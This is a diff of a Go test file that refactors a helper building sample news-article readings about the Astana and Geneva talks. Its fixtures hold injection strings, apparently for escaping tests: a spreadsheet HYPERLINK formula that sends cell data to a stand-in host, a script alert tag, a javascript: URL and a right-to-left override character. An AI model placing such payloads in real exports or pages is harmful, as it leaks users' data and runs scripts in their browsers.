@@ -32,7 +32,6 @@ var vocabulary = graph.Vocabulary{Version: "test", Terms: map[graph.ID]graph.Ter
 
 // A writer makes a reading of an article, sentence by sentence.
 type writer struct {
-	t       *testing.T
 	reading graph.Reading
 	claims  map[graph.ID]*graph.Supported
 	text    strings.Builder
@@ -40,8 +39,8 @@ type writer struct {
 	to      int
 }
 
-func write(t *testing.T, published, language, source, url, title string) *writer {
-	return &writer{t: t, claims: map[graph.ID]*graph.Supported{}, reading: graph.Reading{
+func write(published, language, source, url, title string) *writer {
+	return &writer{claims: map[graph.ID]*graph.Supported{}, reading: graph.Reading{
 		Extractor: "test",
 		Article: graph.Article{
 			URL: url, Title: title, Source: source, Language: language, Published: edtf.MustParse(published),
@@ -73,9 +72,8 @@ func (w *writer) claim(m graph.Modality, subject graph.ID, p graph.Predicate, o 
 	return w
 }
 
-// done is the reading.
-func (w *writer) done() graph.Reading {
-	w.t.Helper()
+// finish is the reading.
+func (w *writer) finish() graph.Reading {
 	r := w.reading
 	r.Article.Text = w.text.String()
 	r.Article.ID = graph.ArticleID(r.Article)
@@ -111,12 +109,12 @@ const hostile = "=HYPERLINK(\"http://x.example/?\"&A1)<script>alert(1)</script>\
 // sampleReadings are three articles: one in Arabic on the first day of a
 // round, one in English after it, and one that knows little and whose outlet
 // and speaker are hostile.
-func sampleReadings(t *testing.T) []graph.Reading {
+func sampleReadings() []graph.Reading {
 	const (
 		a14 graph.ID = "round:astana-14"
 		g8  graph.ID = "round:geneva-8"
 	)
-	first := write(t, "2019-12-10", "ar", "صحيفة المثال", "https://example.org/ar/astana-14", "انطلاق أستانة 14").
+	first := write("2019-12-10", "ar", "صحيفة المثال", "https://example.org/ar/astana-14", "انطلاق أستانة 14").
 		say("بدأت في نور سلطان يوم الثلاثاء 10 كانون الأول الجولة الرابعة عشرة من محادثات أستانة.").
 		round(a14, 14).
 		claim(graph.Ongoing, a14, graph.PredStart, day("2019-12-10"), "day and month in the text; year by the weekday").
@@ -142,7 +140,7 @@ func sampleReadings(t *testing.T) []graph.Reading {
 		claim(graph.Planned, a14, graph.PredAgenda, entity("agenda:astana-14/ceasefire")).
 		claim(graph.Planned, "agenda:astana-14/ceasefire", graph.PredSession, day("2019-12-11"), "tomorrow, Wednesday")
 
-	second := write(t, "2019-12-12", "en", "The Example", "https://example.org/en/astana-14?a=1&b=2", "Astana talks end").
+	second := write("2019-12-12", "en", "The Example", "https://example.org/en/astana-14?a=1&b=2", "Astana talks end").
 		say("The 14th round of the Astana talks closed on December 11 with a joint statement.").
 		round(a14, 14).
 		claim(graph.Happened, a14, graph.PredEnd, day("2019-12-11"), "year of the article").
@@ -155,7 +153,7 @@ func sampleReadings(t *testing.T) []graph.Reading {
 		say("There was no meeting of Turkey and Iran, a diplomat said.").
 		claim(graph.Denied, a14, graph.PredMeeting, entity("meeting:astana-14/iran+turkey"))
 
-	third := write(t, "2017-11-20", "en", hostile, "javascript:alert(1)", "<b>Geneva</b>").
+	third := write("2017-11-20", "en", hostile, "javascript:alert(1)", "<b>Geneva</b>").
 		say("The eighth round of the Geneva talks is to open in November 2017, \u202E=2+3 \"<i>it</i>\" said.").
 		round(g8, 8).
 		claim(graph.Planned, g8, graph.PredStart, day("2017-11"), "month and year in the text").
@@ -165,13 +163,13 @@ func sampleReadings(t *testing.T) []graph.Reading {
 		claim(graph.Happened, "party:hostile", graph.PredName, words(hostile, "en")).
 		say("The sides may meet.").
 		claim(graph.Planned, g8, graph.PredMeeting, entity("meeting:geneva-8/hostile+russia"))
-	return []graph.Reading{first.done(), second.done(), third.done()}
+	return []graph.Reading{first.finish(), second.finish(), third.finish()}
 }
 
 // sampleStore is a graph of the sample articles.
 func sampleStore(t *testing.T) *graph.Store {
 	t.Helper()
-	return storeOf(t, sampleReadings(t)...)
+	return storeOf(t, sampleReadings()...)
 }
 
 func storeOf(t *testing.T, readings ...graph.Reading) *graph.Store {
